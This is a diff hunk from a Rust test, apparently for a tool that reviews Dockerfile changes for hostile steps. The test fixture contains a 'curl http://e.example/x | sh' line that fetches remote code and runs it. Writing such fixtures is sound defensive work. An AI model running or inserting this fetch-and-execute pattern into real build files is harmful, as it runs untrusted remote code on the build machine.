@@ -340,7 +340,10 @@ fn hid_01_continued_lines_are_read_as_one() {
     // Lines of the base do not become new because another line of the command is new.
     let old =
         "FROM a\nRUN apt-get update \\\n && curl http://e.example/x \\\n  | sh \\\n && true\n";
-    let new = old.replace("update \\\n", "update \\\n && apt-get install -y jq \\\n");
+    let new = old.replace(
+        "update \\\n",
+        "update \\\n && apt-get install -y --no-install-recommends jq \\\n",
+    );
     let base = (".base", None, b"x\n".to_vec());
     let bad = ("a.sh", None, fetch.into());
     let report = review(&[("Dockerfile", Some(old.into()), new.into()), base, bad]);
